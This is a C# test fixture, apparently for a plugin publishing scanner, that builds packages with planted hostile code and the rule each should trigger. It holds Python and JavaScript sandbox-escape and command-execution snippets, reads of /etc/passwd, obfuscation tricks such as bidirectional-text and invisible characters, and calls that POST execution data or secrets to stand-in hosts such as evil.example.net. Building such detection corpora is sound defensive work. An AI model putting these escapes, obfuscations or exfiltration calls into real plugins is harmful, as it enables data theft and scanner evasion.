using System.Text;
using Loopai.Portal.Tests.Plugins.Packages;

namespace Loopai.Portal.Tests.Plugins.Publishing;

/// <summary>Packages whose archive is in order and whose code is not.</summary>
internal static class HostileCode
{
    /// <summary>In pieces, so that no scanner takes this file for a leak.</summary>
    private static readonly string AwsKey = "AKIA" + "Q7RZT2MB4WXE5KLD";
    private static readonly string GitHubToken = "ghp" + "_h7Kq2VbN9xTzR4mLwYc8JdPf3SgA6uEo1XiB";
    private static readonly string PrivateKey = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA " + "PRIVATE KEY-----\n";
    private static readonly string Blob = Convert.ToBase64String(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 60).Select(i => $"print({i * 7919})\n"))));

    public static IEnumerable<CorpusPackage> All() => [.. Python(), .. JavaScript(), .. Files(), .. Behaviour()];

    private static IEnumerable<CorpusPackage> Python()
    {
        yield return Py("eval", "eval('1')", "code.dynamic");
        yield return Py("eval by another name", "e = eval\n    e('1')", "code.dynamic");
        yield return Py("exec of a decoded blob", $"import base64\n    exec(base64.b64decode('{Blob}'))", "code.dynamic");
        yield return Py("a decoded blob", $"import base64\n    return base64.b64decode('{Blob}')", "obfuscation.blob");
        yield return Py("__import__", "__import__('o' + 's').system('id')", "code.dynamic");
        yield return Py("importlib", "import importlib\n    importlib.import_module('os')", "code.dynamic");
        yield return Py("a process", "import subprocess\n    subprocess.run(['id'])", "code.process");
        yield return Py("os.system", "import os\n    os.system('id')", "code.process");
        yield return Py("a thread", "from threading import Thread\n    Thread(target=print).start()", "code.process");
        yield return Py("a socket", "import socket\n    socket.create_connection(('example.com', 80))", "code.network");
        yield return Py("urllib's client", "from urllib.request import urlopen\n    urlopen('https://example.com')", "code.network");
        yield return Py("ctypes", "import ctypes\n    ctypes.CDLL(None)", "code.native");
        yield return Py("pickle", "import pickle\n    pickle.loads(b'')", "code.dynamic");
        yield return Py("a file of the machine", "open('/etc/passwd').read()", "code.filesystem");
        yield return Py("getattr with a made-up name", "getattr(execution, 'po' + config['x'])", "code.reflection");
        yield return Py("all subclasses", "().__class__.__base__.__subclasses__()", "code.reflection");
        yield return Py("a function's globals", "validate.__globals__['__builtins__']", "code.reflection");
        yield return Py("attrgetter", "from operator import attrgetter\n    attrgetter('a')(config)", "code.reflection");
        yield return Py("a format that reads globals", "'{0.__globals__}'.format(validate)", "code.reflection");
        yield return Py("a word in pieces", "globals_of = vars(config)['__built' + 'ins__']", "code.reflection");
        yield return Py("the object behind loopai.read", "loopai.read.__self__.find('os')", "code.reflection");
        yield return Py("the built-ins behind loopai.read", "loopai.read.__self__.builtins['exec']('1')", "code.reflection");
        yield return Py("a module's own names", "execution.__dict__", "code.reflection");
        yield return Py("a text of numbers", "''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115])", "obfuscation.codes");
        yield return Py("a name in two alphabets", "\u0440ass_through = 1", "obfuscation.lookalike");
        yield return Py("a comment that looks like code", "# note\u2028    if not config: return None", "obfuscation.line-break");
        yield return new CorpusPackage("a built-in hidden and shown again", GivenPackage.Validator("def eval(x): return x\ndel eval\ndef validate(execution, config):\n    return eval('1')\n").Build(), "code.dynamic");
        yield return new CorpusPackage("eval in a file that nothing seems to use", GivenPackage.Validator().File("lib/unused.py", "x = eval('1')\n").Build(), "code.dynamic");
    }

    private static IEnumerable<CorpusPackage> JavaScript()
    {
        yield return Js("eval", "eval('1')", "code.dynamic");
        yield return Js("a new Function", "new Function('return process')()", "code.dynamic");
        yield return Js("the constructor of a function", "(() => {}).constructor('return process')()", "code.dynamic");
        yield return Js("the constructor's constructor", "[]['constructor']['constructor']('return this')()", "code.dynamic");
        yield return Js("the constructor in pieces", "[]['const' + 'ructor']", "obfuscation.pieces");
        yield return Js("child_process", "require('child_process').execSync('id')", "code.process");
        yield return Js("a module in pieces", "require('child_' + 'process')", "code.process");
        yield return Js("a module by a variable", "require(config.module)", "code.dynamic");
        yield return Js("import()", "import('fs')", "code.dynamic");
        yield return Js("process", "process.env", "code.process");
        yield return Js("globalThis", "globalThis['pro' + 'cess']", "code.reflection");
        yield return Js("vm", "require('node:vm').runInThisContext('1')", "code.dynamic");
        yield return Js("fs", "require('fs').readFileSync('/etc/passwd')", "code.filesystem");
        yield return Js("the net module", "require('net').connect(80, 'example.com')", "code.network");
        yield return Js("fetch of Node.js", "fetch('https://example.com')", "code.network");
        yield return Js("WebAssembly", "WebAssembly.compile(config.bytes)", "code.native");
        yield return Js("a timer with a text", "setTimeout('run()', 1)", "code.dynamic");
        yield return Js("a prototype that is changed", "Object.prototype.toJSON = () => 1", "code.reflection");
        yield return Js("a prototype by its key", "config.__proto__.x = 1", "code.reflection");
        yield return Js("names made of numbers", "const _0x1a2b3c = 1, _0x4d5e6f = 2, _0x7a8b9c = 3", "obfuscation.names");
        yield return Js("a text of numbers", "String.fromCharCode(101, 118, 97, 108, 40)", "obfuscation.codes");
        yield return Js("a decoded blob", $"Buffer.from('{Blob}', 'base64')", "obfuscation.blob");
        yield return Js("a text in escapes", $"const t = '{string.Concat(Enumerable.Repeat("\\x65\\x76", 20))}'", "obfuscation.escapes");
        yield return Js("turned direction", "const isAdmin = 'user\u202E // check\u2066'", "obfuscation.bidi");
        yield return Js("a character nobody sees", "const a\u200Cb = 1", "obfuscation.invisible");
        yield return new CorpusPackage("JavaScript: require by the arguments of the file", GivenPackage.Validator("const fs = arguments[2]('fs');\nexports.validate = () => ({ verdict: 'pass' });\n", "javascript").Build(), "code.reflection");
        yield return new CorpusPackage("JavaScript: the same in an arrow", GivenPackage.Validator("const given = () => arguments;\nexports.validate = () => ({ verdict: given()[2] ? 'pass' : 'fail' });\n", "javascript").Build(), "code.reflection");
        yield return new CorpusPackage("JavaScript: source in a text file", GivenPackage.Validator("exports.validate = require('./payload.txt').validate;\n", "javascript").File("payload.txt", "exports.validate = () => eval('1');\n").Build(), "code.dynamic");
        yield return Js("with", "with (config) { x }", "code.reflection");
        yield return Js("a minified line", "const a = [" + string.Join(',', Enumerable.Range(0, 900)) + "]", "obfuscation.long-line");
    }

    private static IEnumerable<CorpusPackage> Files()
    {
        yield return File("an ELF library", "lib/fast.dat", [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0], "code.native");
        yield return File("a program of Windows", "tool.bin", "MZ\0\0"u8.ToArray(), "code.native");
        yield return File("WebAssembly in a file", "fast.dat", [0, 0x61, 0x73, 0x6D, 1, 0, 0, 0], "code.native");
        yield return File("compiled Python", "lib/x.pyc", [1, 2, 3, 4], "code.native");
        yield return File("a native module of Node.js", "lib/x.node", [1, 2, 3, 4], "code.native");
        yield return File("a script of the shell", "install", "#!/bin/sh\nid\n"u8.ToArray(), "code.native");
        yield return File("a key of AWS", "config.json", Bytes($$"""{"key":"{{AwsKey}}"}"""), "secret.found");
        yield return File("a token of GitHub", "lib/api.py", Bytes($"TOKEN = '{GitHubToken}'\n"), "secret.found");
        yield return File("a private key", "cert.pem", Bytes(PrivateKey), "secret.found");
        yield return File("a password", "lib/db.py", Bytes("password = 'r8Kq2VbN9xTzR4mLwYc'\n"), "secret.found");
        yield return File("a file that is known to be bad", "lib/evil.txt", Bytes(KnownBad), "scan.known-bad");
    }

    public const string KnownBad = "this file is known\n";

    private static IEnumerable<CorpusPackage> Behaviour()
    {
        yield return new CorpusPackage("a host it did not declare", Net("loopai.fetch({'method': 'POST', 'url': 'https://evil.example.net/c', 'headers': {}, 'body': str(execution)})").Build(), "capability.undeclared-host");
        yield return new CorpusPackage("a host that looks like the declared one", Net("loopai.fetch({'method': 'GET', 'url': 'https://hooks.example.com.evil.net/', 'headers': {}, 'body': None})").Build(), "capability.undeclared-host");
        yield return new CorpusPackage("all fields sent to its own host", Net("loopai.fetch({'method': 'POST', 'url': 'https://hooks.example.com/', 'headers': {}, 'body': str(execution)})").Build(), "capability.undeclared-field");
        yield return new CorpusPackage("an undeclared field in its reason", GivenPackage.Validator("def validate(execution, config):\n    return {'verdict': 'pass', 'reason': str(execution.get('input'))[:400]}\n").Build(), "capability.undeclared-field");
        yield return new CorpusPackage("a secret in its reason", Net("pass", "str(config.get('apiKey'))").Build(), "capability.secret-leak");
        yield return new CorpusPackage("a secret that is printed", Net("print(config)").Build(), "capability.secret-leak");
        yield return new CorpusPackage("a handler that sends elsewhere", GivenPackage.Handler("exports.handle = (event, config) => ({ requests: [{ method: 'POST', url: 'https://evil.example.net/', headers: {}, body: JSON.stringify(config) }] });").Build(), "capability.undeclared-host");
        yield return new CorpusPackage("a handler that gives its secret away", GivenPackage.Handler("exports.handle = (event, config) => ({ payload: { event, config } });").Build(), "capability.secret-leak");
        yield return new CorpusPackage("an endless loop", GivenPackage.Validator("def validate(execution, config):\n    while True: pass\n").Build(), "conformance.time");
        yield return new CorpusPackage("memory without end", GivenPackage.Validator("def validate(execution, config):\n    x = ['y' * 1000000 for _ in range(1000)]\n    return {'verdict': 'pass', 'reason': str(len(x))}\n").Build(), "conformance.memory");
        yield return new CorpusPackage("chance for a verdict", GivenPackage.Validator("import random\ndef validate(execution, config):\n    return {'verdict': 'pass', 'score': random.random()}\n").Build(), "conformance.deterministic");
        yield return new CorpusPackage("a sampler that hides its probability", GivenPackage.Sampler("def sample(execution, state, config):\n    return {'sample': True, 'probability': 0}\n").Build(), "conformance.shape");
        yield return new CorpusPackage("another hook than its kind's", GivenPackage.Validator("def handle(event, config):\n    return None\n").Build(), "conformance.crash");
    }

    private static GivenPackage Net(string statement, string reason = "None") => GivenPackage.Validator($$"""
        def validate(execution, config):
            try:
                {{statement}}
            except ConnectionError:
                pass
            return {"verdict": "pass", "reason": {{reason}}}

        """).With("configuration", """{"type":"object","properties":{"apiKey":{"type":"string","writeOnly":true}}}""")
        .With("capabilities", """{"network":["hooks.example.com"],"secrets":["apiKey"],"output":["label"],"timeoutMs":1000}""");

    private static CorpusPackage Py(string name, string statement, string rule) =>
        new($"Python: {name}", GivenPackage.Validator($"def validate(execution, config):\n    {statement}\n    return {{'verdict': 'pass'}}\n").Build(), rule);

    private static CorpusPackage Js(string name, string statement, string rule) =>
        new($"JavaScript: {name}", GivenPackage.Validator($"exports.validate = function (execution, config) {{\n  {statement};\n  return {{ verdict: 'pass' }};\n}};\n", "javascript").Build(), rule);

    private static CorpusPackage File(string name, string path, byte[] bytes, string rule) => new(name, GivenPackage.Validator().File(path, bytes).Build(), rule);

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);
}
